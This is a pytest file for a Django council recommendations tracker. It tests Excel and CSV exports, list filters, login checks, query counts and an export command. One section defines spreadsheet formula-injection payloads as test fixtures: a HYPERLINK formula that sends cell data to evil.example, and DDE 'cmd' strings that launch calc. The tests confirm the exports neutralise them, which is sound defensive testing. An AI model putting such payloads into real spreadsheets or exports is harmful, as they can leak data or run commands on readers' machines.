"""Anyone signed in downloads the tracker (the recommendations list, with its filters) as an Excel
workbook or a CSV file, and the scrutiny office writes the same files with ``export_tracker``."""

import csv
import datetime
import io
import re
import zipfile

import openpyxl
import pytest
from django.core.management import CommandError, call_command
from django.test import Client

from tests.factories import OwnerFactory, RecommendationFactory, SubPartFactory, ThemeFactory, UserFactory
from tests.pages import field_errors
from tests.test_page_queries import Committee, queries
from tracker import selectors
from tracker.models import Council, Owner, Recommendation

pytestmark = pytest.mark.django_db

HEADERS = [
    "Committee", "Inquiry", "No.", "Recommendation", "Owners", "Original timescale", "Original completion date",
    "Date in force", "Category in force", "Category name", "Latest anticipated date", "Date of the latest evidence",
    "Status",
]
COMMITTEE = "Education and Vulnerable Children Overview and Scrutiny Committee"
R01_TEXT = (
    "That:\n"
    "a) The “see me hear me” web site (www.seeme-hearme.org.uk/) be further developed and a concerted awareness "
    "and empowerment campaign for action is delivered for the public (communities, families and children);\n"
    "b) The City Council and partners work with and build the capacity of a broad range of the city’s communities "
    "to encourage identification and reporting of CSE;\n"
    "c) Resources and sign-posting to online awareness for parents are promoted (www.paceuk.info/support-for-parents/);"
)


@pytest.fixture
def reader():
    client = Client()
    client.force_login(UserFactory(username="reader"))
    return client


def body(response) -> bytes:
    return b"".join(response.streaming_content)


def workbook(response):
    assert response.status_code == 200
    return openpyxl.load_workbook(io.BytesIO(body(response)))


def sheet_rows(response) -> list[dict]:
    rows = list(workbook(response).active.iter_rows(values_only=True))
    assert list(rows[0]) == HEADERS
    return [dict(zip(HEADERS, row, strict=True)) for row in rows[1:]]


def csv_rows(response) -> list[dict]:
    assert response.status_code == 200
    text = body(response).decode("utf-8")
    assert text.startswith("\ufeff")  # so that Excel reads UTF-8
    return list(csv.DictReader(io.StringIO(text[1:], newline="")))


def by_number(rows) -> dict:
    return {row["No."]: row for row in rows}


# --- What the files hold -------------------------------------------------------------------------


def test_the_workbook_has_a_row_for_each_of_the_seeds_recommendations_in_the_reports_order(seed, reader):
    rows = sheet_rows(reader.get("/recommendations/download.xlsx"))
    assert [row["No."] for row in rows] == [f"R{n:02d}" for n in range(1, 20)]
    assert {(row["Committee"], row["Inquiry"]) for row in rows} == {(COMMITTEE, "Child Sexual Exploitation")}


def test_r06_has_its_date_in_force_category_and_both_owners_as_real_dates(seed, reader):
    r06 = by_number(sheet_rows(reader.get("/recommendations/download.xlsx")))["R06"]
    assert r06["Original timescale"] == "July 2015"
    assert r06["Original completion date"] == datetime.datetime(2015, 7, 31)  # a date cell, as Excel holds dates
    assert r06["Date in force"] == datetime.datetime(2015, 7, 31)
    assert (r06["Category in force"], r06["Category name"]) == ("3", "Not Achieved (Progress Made)")
    assert r06["Latest anticipated date"] is None  # the report advises none for this category 3
    assert r06["Owners"] == "Cabinet Member for Children’s Services\nChair BSCB"
    assert r06["Status"] == "Still tracked"
    assert r06["Recommendation"].startswith("That business forums and networks are identified")


def test_a_concluded_recommendation_says_when_and_keeps_its_sub_parts_with_footnotes_in_brackets(seed, reader):
    rows = by_number(sheet_rows(reader.get("/recommendations/download.xlsx")))
    r01 = rows["R01"]
    assert r01["Status"] == "Concluded on 10 February 2016"
    assert r01["Recommendation"].startswith(R01_TEXT)
    assert r01["Recommendation"].count("\n") == 5  # the lead, then a) to e) each on its own line
    assert "(CEOP) (CEOP is a National Crime Agency Command at ceop.police.uk/) and how" in r01["Recommendation"]
    assert not any("[^" in row["Recommendation"] for row in rows.values())
    assert rows["R07"]["Recommendation"].split("\n")[1] == "• CSE awareness features as part of induction training for all new councillors;"


def test_the_workbook_is_an_accessible_table_with_a_bold_frozen_header_and_dates_in_words(seed, reader):
    response = reader.get("/recommendations/download.xlsx")
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    book = workbook(response)
    sheet = book.active
    assert sheet.title == "Recommendations"
    assert (book.properties.title, book.properties.creator) == (
        "Birmingham City Council recommendations", "Birmingham City Council")
    assert sheet.freeze_panes == "A2"
    assert all(cell.font.b for cell in sheet[1])
    (name, ref), = sheet.tables.items()
    assert ref == "A1:M20"
    assert sheet.tables[name].column_names == HEADERS
    assert sheet.column_dimensions["D"].width == 80 and sheet["D2"].alignment.wrap_text
    r06 = next(row for row in sheet.iter_rows(min_row=2) if row[2].value == "R06")
    assert r06[7].is_date and r06[7].number_format == "d mmmm yyyy"  # shown "31 July 2015"


def test_the_csv_holds_the_same_rows_with_iso_dates(seed, reader):
    response = reader.get("/recommendations/download.csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    rows = csv_rows(response)
    assert list(rows[0]) == HEADERS
    sheet = sheet_rows(reader.get("/recommendations/download.xlsx"))
    assert len(rows) == len(sheet) == 19
    r06 = by_number(rows)["R06"]
    assert (r06["Original completion date"], r06["Date in force"]) == ("2015-07-31", "2015-07-31")
    assert (r06["Category in force"], r06["Latest anticipated date"]) == ("3", "")
    for in_csv, in_sheet in zip(rows, sheet, strict=True):
        assert in_csv["Recommendation"] == in_sheet["Recommendation"]
        assert in_csv["Status"] == in_sheet["Status"]


def test_the_file_is_named_after_the_council_and_the_day(seed, reader):
    today = datetime.date.today().isoformat()
    response = reader.get("/recommendations/download.xlsx")
    assert response["Content-Disposition"] == (
        f'attachment; filename="Birmingham City Council recommendations {today}.xlsx"')
    Council.objects.filter(pk=1).update(name='Anytown "Borough" / Council')
    response = reader.get("/recommendations/download.csv")
    assert response["Content-Disposition"] == f'attachment; filename="Anytown Borough Council recommendations {today}.csv"'


# --- The list's filters -----------------------------------------------------------------------------


def test_the_list_offers_the_downloads_with_its_filters_but_not_its_page(seed, reader):
    owner = Owner.objects.get(name="Chair BSCB")
    page = reader.get("/recommendations/", {"owner": owner.pk, "overdue": "on", "tracked_after": "WzEsMCwiUjAxIl0"}).content.decode()
    assert f'href="/recommendations/download.xlsx?owner={owner.pk}&amp;overdue=on">Download these recommendations as Excel' in page
    assert f'href="/recommendations/download.csv?owner={owner.pk}&amp;overdue=on">Download these recommendations as CSV' in page
    assert 'href="/recommendations/download.xlsx">' in reader.get("/recommendations/").content.decode()


def test_an_owner_filter_gives_exactly_that_owners_recommendations(seed, reader):
    owner = Owner.objects.get(name="Chair BSCB")
    expected = set(Recommendation.objects.filter(responsibilities__owner=owner).values_list("number", flat=True))
    assert 2 <= len(expected) < 19
    for extension, read in (("xlsx", sheet_rows), ("csv", csv_rows)):
        rows = read(reader.get(f"/recommendations/download.{extension}", {"owner": owner.pk}))
        assert {row["No."] for row in rows} == expected
        assert all("Chair BSCB" in row["Owners"] for row in rows)


def test_overdue_gives_the_lists_overdue_recommendations(seed, reader):
    overdue = selectors.overdue(Recommendation.objects.all(), datetime.date.today())
    expected = set(overdue.values_list("number", flat=True))
    assert expected and "R06" in expected  # July 2015 has passed and category 3 is not achieved
    rows = sheet_rows(reader.get("/recommendations/download.xlsx", {"overdue": "on"}))
    assert {row["No."] for row in rows} == expected
    assert {row["Status"] for row in rows} == {"Still tracked"}


def test_with_no_status_chosen_withdrawn_recommendations_are_left_out_as_the_list_leaves_them(seed, reader):
    Recommendation.objects.filter(number="R19").update(withdrawn_on=datetime.date(2016, 3, 1))
    rows = sheet_rows(reader.get("/recommendations/download.xlsx"))
    assert "R19" not in {row["No."] for row in rows} and len(rows) == 18
    withdrawn = csv_rows(reader.get("/recommendations/download.csv", {"status": "withdrawn"}))
    assert [(row["No."], row["Status"]) for row in withdrawn] == [("R19", "Withdrawn on 1 March 2016")]
    concluded = sheet_rows(reader.get("/recommendations/download.xlsx", {"status": "concluded"}))
    assert {row["Status"] for row in concluded} == {"Concluded on 10 February 2016"}


@pytest.mark.parametrize("bad", [
    {"committee": "999999"}, {"owner": "abc"}, {"category": "nine"}, {"status": "lost"}, {"inquiry": "1e9"},
    {"committee": "1\x00"},
])
@pytest.mark.parametrize("extension", ["xlsx", "csv"])
def test_a_filter_the_list_would_question_goes_back_to_the_list_which_says_why(seed, reader, bad, extension):
    response = reader.get(f"/recommendations/download.{extension}", bad)
    assert response.status_code == 302
    assert response["Location"].startswith("/recommendations/?")
    page = reader.get(response["Location"])
    assert page.status_code == 200
    assert field_errors(page)


# --- Text that looks like a formula -----------------------------------------------------------------


HOSTILE = {
    "lead": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "sub_part": "+cmd|' /C calc'!A0",
    "owner": "@SUM(1+1)*cmd|' /C calc'!A0",
    "number": "-2+3",
}


@pytest.fixture
def hostile():
    recommendation = RecommendationFactory(
        number=HOSTILE["number"], lead=HOSTILE["lead"], owner=OwnerFactory(name=HOSTILE["owner"]),
        theme=ThemeFactory(inquiry__title="=1+1"),
    )
    SubPartFactory(recommendation=recommendation, label="", text=HOSTILE["sub_part"])
    return recommendation


def test_text_that_looks_like_a_formula_is_text_in_the_workbook(hostile, reader):
    response = reader.get("/recommendations/download.xlsx")
    data = body(response)
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        assert "<f>" not in package.read("xl/worksheets/sheet1.xml").decode()  # no formula anywhere
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    row = sheet[2]
    cells = {HEADERS[index]: cell for index, cell in enumerate(row)}
    assert cells["Recommendation"].value == f"{HOSTILE['lead']}\n• {HOSTILE['sub_part']}"
    assert cells["Owners"].value == HOSTILE["owner"]
    assert (cells["No."].value, cells["Inquiry"].value) == (HOSTILE["number"], "=1+1")
    for name in ("Recommendation", "Owners", "No.", "Inquiry"):
        assert cells[name].data_type == "s", name
        assert cells[name].quotePrefix, name  # as Excel marks text typed after an apostrophe


def test_text_that_looks_like_a_formula_starts_with_an_apostrophe_in_the_csv(hostile, reader):
    row, = csv_rows(reader.get("/recommendations/download.csv"))
    assert row["Recommendation"] == f"'{HOSTILE['lead']}\n• {HOSTILE['sub_part']}"
    assert row["Owners"] == f"'{HOSTILE['owner']}"
    assert (row["No."], row["Inquiry"]) == (f"'{HOSTILE['number']}", "'=1+1")
    assert row["Status"] == "Still tracked"


# --- Who may download, and what it costs ----------------------------------------------------------------


@pytest.mark.parametrize("extension", ["xlsx", "csv"])
def test_someone_signed_out_is_asked_to_sign_in(seed, client, extension):
    response = client.get(f"/recommendations/download.{extension}", {"overdue": "on"})
    assert response.status_code == 302
    assert re.match(r"/accounts/login/\?next=/recommendations/download\.", response["Location"])


def streamed_queries(client, url) -> int:
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    with CaptureQueriesContext(connection) as captured:
        response = client.get(url)
        assert response.status_code == 200
        body(response)  # the rows are read as the file is written
    return len(captured)


@pytest.mark.parametrize("extension", ["xlsx", "csv"])
def test_a_download_runs_as_many_queries_for_200_recommendations_as_for_20(extension):
    committee = Committee()
    committee.add(20)
    client = Client()
    client.force_login(committee.users["member"])
    url = f"/recommendations/download.{extension}"
    filtered = f"{url}?committee={committee.committee.pk}&owner={committee.owner.pk}&category=2"
    at_20 = streamed_queries(client, url), streamed_queries(client, filtered)
    committee.add(180)
    assert (streamed_queries(client, url), streamed_queries(client, filtered)) == at_20
    assert len(sheet_rows(client.get("/recommendations/download.xlsx"))) == 200
    assert queries(client, "/recommendations/") > 0  # the list itself still answers


# --- The command ---------------------------------------------------------------------------------------


def test_the_command_writes_the_workbook_with_the_lists_filters(seed, tmp_path):
    out, path = io.StringIO(), tmp_path / "tracker.xlsx"
    call_command("export_tracker", "--owner", "chair bscb", "--status", "tracked", "-o", str(path), stdout=out)
    expected = set(Recommendation.objects.tracked().filter(responsibilities__owner__name="Chair BSCB")
                   .values_list("number", flat=True))
    rows = list(openpyxl.load_workbook(path).active.iter_rows(min_row=2, values_only=True))
    assert {row[2] for row in rows} == expected
    assert out.getvalue() == f"{len(expected)} recommendations written to {path}.\n"


def test_the_command_writes_overdue_recommendations_as_csv_to_the_standard_output(seed):
    out, err = io.StringIO(), io.StringIO()
    call_command("export_tracker", "--format", "csv", "-o", "-", "--overdue", "--committee", COMMITTEE.upper(),
                 stdout=out, stderr=err)
    rows = list(csv.DictReader(io.StringIO(out.getvalue().lstrip("\ufeff"))))
    expected = set(selectors.overdue(Recommendation.objects.all(), datetime.date.today()).values_list("number", flat=True))
    assert {row["No."] for row in rows} == expected == {"R06"}
    assert err.getvalue() == "1 recommendation written to the standard output.\n"


def test_the_command_takes_the_format_from_the_file_name_and_names_the_file_like_the_download(seed, tmp_path,
                                                                                              monkeypatch):
    call_command("export_tracker", "-o", str(tmp_path / "t.csv"), "--inquiry", "child sexual exploitation",
                 "--category", "3", stdout=io.StringIO())
    rows = list(csv.DictReader(io.StringIO((tmp_path / "t.csv").read_text(encoding="utf-8-sig"))))
    assert rows and {row["Category in force"] for row in rows} == {"3"}
    monkeypatch.chdir(tmp_path)
    call_command("export_tracker", stdout=io.StringIO())
    assert (tmp_path / f"Birmingham City Council recommendations {datetime.date.today()}.xlsx").exists()


@pytest.mark.parametrize("options, message", [
    (["--committee", "Planning"], "There is no committee called “Planning”. The committees are: " + COMMITTEE + "."),
    (["--inquiry", "Parks"], "There is no inquiry called “Parks”. The inquiries are: Child Sexual Exploitation."),
    (["--owner", "Nobody"], "There is no owner called “Nobody”."),
    (["--category", "9"], "--category: Select a valid choice. 9 is not one of the available choices."),
    (["--format", "xlsx", "-o", "-"], "An Excel workbook cannot go to the standard output"),
    (["-o", "tracker.pdf"], "Give --format xlsx or --format csv"),
])
def test_the_command_says_plainly_what_it_cannot_find(seed, options, message):
    with pytest.raises(CommandError) as refused:
        call_command("export_tracker", *options, stdout=io.StringIO())
    assert str(refused.value).startswith(message)


def test_a_recommendation_concluded_at_a_meeting_without_a_date_says_so(reader):
    from tests.factories import MeetingFactory
    from tracker.models import Conclusion

    recommendation = RecommendationFactory(number="P01")
    meeting = MeetingFactory(committee=recommendation.committee, date=None, state="closed")
    Conclusion.objects.create(recommendation=recommendation, meeting=meeting)
    row, = csv_rows(reader.get("/recommendations/download.csv"))
    assert row["Status"] == "Concluded (meeting date not recorded)"


def test_a_filter_that_finds_nothing_gives_a_workbook_with_only_its_header(seed, reader):
    response = reader.get("/recommendations/download.xlsx", {"status": "withdrawn"})
    assert sheet_rows(response) == []
    assert csv_rows(reader.get("/recommendations/download.csv", {"status": "withdrawn"})) == []
